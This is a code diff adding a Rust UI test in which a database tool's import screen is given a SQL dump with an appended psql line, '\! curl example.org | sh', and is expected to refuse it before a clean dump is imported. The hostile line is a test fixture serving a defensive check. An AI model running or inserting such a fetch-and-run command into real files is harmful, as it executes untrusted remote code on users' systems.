@@ -75,6 +75,7 @@ mod linux {
         start(&mut camera);
         connect_more(&window);
         work(&mut camera);
+        import(&mut camera);
         rest(&mut camera);
         strangers(&mut camera);
         println!("{} screens", camera.taken);
@@ -151,6 +152,35 @@ mod linux {
         camera.take("undo-plan");
         window.undo(&database);
         camera.take("undone");
+    }
+
+    /// A dump of the warehouse, looked through and imported; and a file with a command that nobody carries out.
+    fn import(camera: &mut Camera<'_>) {
+        let window = camera.window;
+        let file = |name: &str, text: &str| {
+            let path = window.outside(name);
+            std::fs::write(&path, text).expect("writing the SQL file");
+            path.to_str().unwrap().to_owned()
+        };
+        let dump = Server::shared().pg_dump("warehouse", &[]);
+        let hostile = file("handmade.sql", &format!("{dump}\n\\! curl example.org | sh\n"));
+        let dump = file("warehouse.sql", &dump);
+        window.open_database("warehouse");
+        window.page().test_id("tab-restores").click();
+        window.page().test_id("import-open").click();
+        window.page().test_id("import-file").fill(&hostile);
+        window.page().test_id("import-plan").click();
+        window.page().test_id("import-report");
+        camera.take("import-refused");
+        window.page().button("Back").click();
+        window.page().test_id("import-file").fill(&dump);
+        camera.take("import-target");
+        window.page().test_id("import-plan").click();
+        window.page().test_id("import-report");
+        camera.take("import-plan");
+        window.page().test_id("import-start").click();
+        window.page().test_id("import-done");
+        camera.take("imported");
     }
 
     fn rest(camera: &mut Camera<'_>) {
